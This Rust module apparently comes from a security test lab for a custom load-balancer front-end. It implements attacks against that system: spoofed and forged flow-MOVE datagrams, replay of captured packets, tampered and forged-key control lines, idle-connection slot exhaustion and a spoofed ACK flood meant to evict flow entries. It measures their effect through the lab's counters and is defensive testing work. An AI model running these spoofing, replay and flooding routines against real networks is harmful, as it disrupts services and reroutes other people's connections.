//! Attacks on the blind front-end (`fe`): a spoofed one-sided MOVE of a victim's flow
//! from the client side, a captured MOVE replayed, the TCP control port (sealed lines:
//! HOLD without expiry, WEIGHTS, MOVE sent plain, sealed under a made-up key, captured
//! from the operator and tampered with or replayed; idle connections past its slots)
//! and a spoofed non-SYN flood meant to evict live flow entries.
//!
//! Success is judged by effect, through the front-end's own tables (the lab reads
//! them over the control socket as its operator would): a victim's flow now names
//! another back-end or none, the front-end counted a move of a replayed datagram, a
//! control request answered `OK`; the victims' broken connections are the window's
//! collateral.

use std::io::{self, BufRead, BufReader, Write};
use std::net::{Ipv4Addr, SocketAddrV4, TcpStream};
use std::time::Duration;

use super::dc::{Dc, ATK, ATKC, B0, B1, CONTROL_PORT, FE, FE_KEY_ID, MOVE_PORT, VIP};
use super::outcome::Outcome;
use super::raw::{ipv4_tcp, ipv4_udp, Packet, RawSender, Sniffer, PROTO_TCP, PROTO_UDP, TCP_ACK};

/// Spoofed non-SYN packets of a full run: more than the flow table holds
/// (`FE_FLOWS_MAX` = 65,536), so a table that recorded them would evict every entry.
pub const FLOOD_PACKETS: u64 = 70_000;
/// `--quick`: a third of the table (the test).
pub const FLOOD_PACKETS_QUICK: u64 = 20_000;
/// Idle connections held open on the control port: more than its `CONNS_MAX` (16).
const CONTROL_IDLE_CONNS: usize = 20;
/// How long they are held before the operator's request: past the control port's
/// `EVICT_IDLE_MIN` (1 s), after which a new connection may evict an idle one.
const CONTROL_IDLE_HOLD: Duration = Duration::from_millis(1500);
/// The attacker's wait for a control reply.
const CONTROL_WAIT: Duration = Duration::from_secs(1);
/// Wait for the front-end to act on what was sent.
const SETTLE: Duration = Duration::from_millis(300);
/// The MOVE's magic and layout (docs/frontend.md, "Protocol, version 1").
const MOVE_MAGIC: u32 = 0x4653_4d56;

/// A MOVE request (32 bytes): flow `client` → VIP, from back-end `expected` to `new`.
pub fn move_msg(seq: u64, client: SocketAddrV4, expected: Ipv4Addr, new: Ipv4Addr) -> Vec<u8> {
    let mut m = MOVE_MAGIC.to_be_bytes().to_vec();
    m.extend_from_slice(&[1, 1, 0, 0]);
    m.extend_from_slice(&seq.to_be_bytes());
    m.extend_from_slice(&client.ip().octets());
    m.extend_from_slice(&client.port().to_be_bytes());
    m.extend_from_slice(&[0, 0]);
    m.extend_from_slice(&expected.octets());
    m.extend_from_slice(&new.octets());
    m
}

fn flows(dc: &Dc, victims: &[SocketAddrV4]) -> io::Result<Vec<String>> {
    victims.iter().map(|v| dc.fe_flow(*v)).collect()
}

fn counter(c: &serde_json::Value, name: &str) -> u64 {
    c.get("counters")
        .and_then(|c| c.get(name))
        .and_then(serde_json::Value::as_u64)
        .unwrap_or(0)
}

fn deltas(a: &serde_json::Value, b: &serde_json::Value, names: &[&str]) -> String {
    names
        .iter()
        .map(|n| format!("{n} +{}", counter(b, n).saturating_sub(counter(a, n))))
        .collect::<Vec<_>>()
        .join(", ")
}

/// Spoofed MOVEs of every victim's flow, both ways between the back-ends, from the
/// client side with the back-end's address as source: unsealed, and in a 64-byte
/// envelope under a key the attacker made up.
pub fn spoofed_move(dc: &Dc, victims: &[SocketAddrV4]) -> io::Result<Outcome> {
    let before = flows(dc, victims)?;
    let c0 = dc.fe_counters()?;
    let mut raw = RawSender::open(&dc.dc, ATKC)?;
    let (b0, b1, fe) = (dc.dc.node_ip(B0), dc.dc.node_ip(B1), dc.dc.node_ip(FE));
    let to = SocketAddrV4::new(fe, MOVE_PORT);
    let mut seq = 1u64 << 40;
    for v in victims {
        for (exp, new) in [(b0, b1), (b1, b0)] {
            seq += 1;
            let m = move_msg(seq, *v, exp, new);
            let mut sealed = vec![0xa5u8; 8]; // a made-up tag
            sealed.extend_from_slice(&1u32.to_le_bytes()); // key id 1
            sealed.extend_from_slice(&32u32.to_le_bytes()); // covered length
            sealed.extend_from_slice(&u64::from(u32::from(exp)).to_le_bytes());
            sealed.extend_from_slice(&seq.to_le_bytes());
            sealed.extend_from_slice(&m);
            for p in [m, sealed] {
                raw.send(&ipv4_udp(SocketAddrV4::new(exp, 40_000), to, &p))?;
            }
        }
    }
    std::thread::sleep(SETTLE);
    let after = flows(dc, victims)?;
    let c1 = dc.fe_counters()?;
    let changed = before.iter().zip(&after).filter(|(a, b)| a != b).count();
    Ok(Outcome {
        succeeded: changed > 0,
        effect: format!(
            "{changed} of {} victim flows re-routed; {}",
            victims.len(),
            deltas(
                &c0,
                &c1,
                &["moved", "move_already", "move_unauth", "move_refused"]
            )
        ),
        packets: raw.packets,
        bytes: raw.bytes,
        answered_bytes: 0,
        tested: !victims.is_empty(),
    })
}

/// The MOVE datagrams b0 sent to the front-end during the capture.
pub fn captured_moves(s: &Sniffer, b0: Ipv4Addr, fe: Ipv4Addr) -> Vec<Packet> {
    s.matching(|p| p.proto == PROTO_UDP && p.src == b0 && p.dst == fe && p.dport == MOVE_PORT)
}

/// Every captured MOVE sent again, byte for byte (source b0), from the cluster side.
pub fn replayed_move(dc: &Dc, moves: &[Packet]) -> io::Result<Outcome> {
    if moves.is_empty() {
        return Ok(Outcome::untested(
            "no MOVE was captured (b0 did not migrate during the capture burst)",
        ));
    }
    let c0 = dc.fe_counters()?;
    let mut raw = RawSender::open(&dc.dc, ATK)?;
    for m in moves {
        raw.send(&m.raw)?;
    }
    std::thread::sleep(SETTLE);
    let c1 = dc.fe_counters()?;
    let acted = (counter(&c1, "moved") + counter(&c1, "move_already"))
        .saturating_sub(counter(&c0, "moved") + counter(&c0, "move_already"));
    Ok(Outcome {
        succeeded: acted > 0,
        effect: format!(
            "replayed {} captured MOVEs: {}",
            moves.len(),
            deltas(
                &c0,
                &c1,
                &["moved", "move_already", "move_replay", "move_unauth"]
            )
        ),
        packets: raw.packets,
        bytes: raw.bytes,
        answered_bytes: 0,
        tested: true,
    })
}

/// The control requests an attacker would send to a TCP control port: hold a victim
/// for an hour, take b0 out of the weights, move a victim.
fn control_requests(dc: &Dc, victim: SocketAddrV4) -> Vec<String> {
    vec![
        format!("HOLD {victim} 3600000"),
        format!("WEIGHTS {}=0", dc.dc.node_ip(B0)),
        format!("MOVE {victim} {}", dc.dc.node_ip(B1)),
    ]
}

/// The operator's sealed control lines px sent to the front-end during the capture.
pub fn captured_control(s: &Sniffer, px: Ipv4Addr, fe: Ipv4Addr) -> Vec<String> {
    s.matching(|p| {
        p.proto == PROTO_TCP
            && p.src == px
            && p.dst == fe
            && p.dport == CONTROL_PORT
            && !p.payload.is_empty()
    })
    .iter()
    .flat_map(|p| {
        String::from_utf8_lossy(&p.payload)
            .lines()
            .filter(|l| l.starts_with("AUTH "))
            .map(str::to_string)
            .collect::<Vec<_>>()
    })
    .collect()
}

/// One line to the control port from `node` on a connection of its own: the reply
/// line (or what happened instead).
fn control_line(dc: &Dc, node: &str, line: &str) -> io::Result<String> {
    let to = dc.fe_control;
    let line = line.to_string();
    dc.dc.run_in_ns(node, move || {
        let mut s = match TcpStream::connect_timeout(&to, CONTROL_WAIT) {
            Ok(s) => s,
            Err(e) => return Ok(format!("connect: {e}")),
        };
        s.set_read_timeout(Some(CONTROL_WAIT))?;
        if let Err(e) = s.write_all(format!("{line}\n").as_bytes()) {
            return Ok(format!("write: {e}"));
        }
        let mut r = String::new();
        Ok(match BufReader::new(s).read_line(&mut r) {
            Ok(0) => "closed".to_string(),
            Ok(_) => r.trim().to_string(),
            Err(e) => format!("read: {e}"),
        })
    })
}

/// A sealed control line under a key the attacker made up (the right key id).
fn forged_line(text: &str) -> String {
    let mut k = [0u8; 16];
    for (i, b) in k.iter_mut().enumerate() {
        *b = (i as u8).wrapping_mul(37) ^ 0x5a;
    }
    let env = farside_auth::mac::Envelope {
        key_id: farside_auth::mac::KeyId(FE_KEY_ID),
        sender: 0xa77a_c4e5,
        seq: u64::MAX / 2,
    };
    super::dc::seal_line(&farside_auth::siphash::SipKey::from_bytes(k), &env, text)
}

/// A captured line with the last hex digit of its covered text changed.
fn tampered(line: &str) -> String {
    let mut t = line.to_string();
    if let Some(c) = t.pop() {
        t.push(if c == '0' { '1' } else { '0' });
    }
    t
}

/// The back-ends' weights in the front-end's `STATS`.
fn weights(c: &serde_json::Value) -> String {
    c.get("backends")
        .and_then(serde_json::Value::as_array)
        .map(|b| {
            b.iter()
                .map(|x| x.get("weight").map_or("?".to_string(), |w| w.to_string()))
                .collect::<Vec<_>>()
                .join("/")
        })
        .unwrap_or_default()
}

/// The front-end's TCP control port, whose every line must be sealed: the attacker's
/// requests (hold a victim for an hour, take b0 out of the weights, move a victim)
/// plain and sealed under a made-up key from the client side; the operator's captured
/// sealed lines tampered with (client side) and replayed byte for byte (cluster
/// side); then [`CONTROL_IDLE_CONNS`] idle connections held while the operator asks
/// for `STATS`. It succeeded if any line was acted on (answered `OK` or with a sealed
/// reply, a victim's flow or the weights changed) or the idle connections kept the
/// operator out.
pub fn control_port(dc: &Dc, victims: &[SocketAddrV4], captured: &[String]) -> io::Result<Outcome> {
    let victim = victims
        .first()
        .copied()
        .unwrap_or(SocketAddrV4::new(Ipv4Addr::new(10, 77, 0, 10), 1));
    let before = flows(dc, victims)?;
    let w0 = weights(&dc.fe_counters()?);
    let reqs = control_requests(dc, victim);
    let mut tried: Vec<(String, &str, String)> = Vec::new();
    for q in &reqs {
        tried.push((
            format!("plain {}", q.split(' ').next().unwrap_or("")),
            ATKC,
            q.clone(),
        ));
        tried.push((
            format!("made-up key {}", q.split(' ').next().unwrap_or("")),
            ATKC,
            forged_line(q),
        ));
    }
    for (i, c) in captured.iter().enumerate() {
        tried.push((format!("captured #{i} tampered"), ATKC, tampered(c)));
        tried.push((format!("captured #{i} replayed"), ATK, c.clone()));
    }
    let mut answers = Vec::new();
    let mut acted = 0;
    let mut bytes = 0u64;
    for (what, node, line) in &tried {
        let r = control_line(dc, node, line)?;
        bytes += line.len() as u64 + 1;
        if r.starts_with("OK") || r.starts_with("AUTH ") {
            acted += 1;
        }
        answers.push(format!("{what} → {}", r.split(':').next().unwrap_or(&r)));
    }
    // Idle connections past the port's slots, then the operator's request.
    let to = dc.fe_control;
    let idle: Vec<TcpStream> = dc.dc.run_in_ns(ATKC, move || {
        Ok((0..CONTROL_IDLE_CONNS)
            .filter_map(|_| TcpStream::connect_timeout(&to, CONTROL_WAIT).ok())
            .collect())
    })?;
    std::thread::sleep(CONTROL_IDLE_HOLD);
    let operator = dc.fe_counters();
    let idle_held = idle.iter().filter(|s| !super::specd::closed(s)).count();
    drop(idle);
    let after = flows(dc, victims)?;
    let w1 = weights(&dc.fe_counters()?);
    let changed = before.iter().zip(&after).filter(|(a, b)| a != b).count();
    // Whatever an open control port did, put the tables back for the next attacks.
    if acted > 0 || w0 != w1 {
        let _ = dc.fe_request(&format!(
            "WEIGHTS {}={},{}={}",
            dc.dc.node_ip(B0),
            super::dc::WEIGHTS[0],
            dc.dc.node_ip(B1),
            super::dc::WEIGHTS[1]
        ));
    }
    Ok(Outcome {
        succeeded: acted > 0 || changed > 0 || w0 != w1 || operator.is_err(),
        effect: format!(
            "{} lines ({} captured): {acted} acted on [{}]; victim flows changed {changed}, \
             weights {w0} → {w1}; {} idle connections opened, {idle_held} still open after \
             {} ms, the operator's STATS then: {}",
            tried.len(),
            captured.len(),
            answers.join("; "),
            CONTROL_IDLE_CONNS,
            CONTROL_IDLE_HOLD.as_millis(),
            match &operator {
                Ok(_) => "answered".to_string(),
                Err(e) => format!("failed ({e})"),
            }
        ),
        packets: tried.len() as u64 + CONTROL_IDLE_CONNS as u64,
        bytes,
        answered_bytes: 0,
        tested: !captured.is_empty(),
    })
}

/// Spoofed TCP ACKs to the VIP from random client addresses and ports (no SYN): do the
/// victims' flow entries survive?
pub fn nonsyn_flood(dc: &Dc, victims: &[SocketAddrV4], quick: bool) -> io::Result<Outcome> {
    let n = if quick {
        FLOOD_PACKETS_QUICK
    } else {
        FLOOD_PACKETS
    };
    let before = flows(dc, victims)?;
    let c0 = dc.fe_counters()?;
    let mut raw = RawSender::open(&dc.dc, ATKC)?;
    let mut x: u32 = 0x9e37_79b9;
    for i in 0..n {
        // xorshift: addresses in 10.99.0.0/16 (no host of the lab), ports 1024-65535.
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        let src = SocketAddrV4::new(
            Ipv4Addr::new(10, 99, (x >> 8) as u8, x as u8),
            1024 + (x >> 16) as u16 % 64_512,
        );
        raw.send(&ipv4_tcp(src, VIP, i as u32, x, TCP_ACK, &[]))?;
    }
    std::thread::sleep(SETTLE);
    let after = flows(dc, victims)?;
    let c1 = dc.fe_counters()?;
    let lost = before.iter().zip(&after).filter(|(a, b)| a != b).count();
    Ok(Outcome {
        succeeded: lost > 0,
        effect: format!(
            "{n} spoofed ACKs: {lost} of {} victim flow entries changed or evicted; {}",
            victims.len(),
            deltas(&c0, &c1, &["nonsyn_miss", "syn_hit"])
        ),
        packets: raw.packets,
        bytes: raw.bytes,
        answered_bytes: 0,
        tested: !victims.is_empty(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn move_message_is_32_bytes_with_the_documented_fields() {
        let c = SocketAddrV4::new(Ipv4Addr::new(10, 77, 0, 10), 5555);
        let m = move_msg(
            7,
            c,
            Ipv4Addr::new(10, 77, 0, 12),
            Ipv4Addr::new(10, 77, 0, 13),
        );
        assert_eq!(m.len(), 32);
        assert_eq!(&m[..4], b"FSMV");
        assert_eq!((m[4], m[5]), (1, 1));
        assert_eq!(&m[16..22], &[10, 77, 0, 10, 0x15, 0xb3]);
        assert_eq!(&m[28..], &[10, 77, 0, 13]);
    }
}
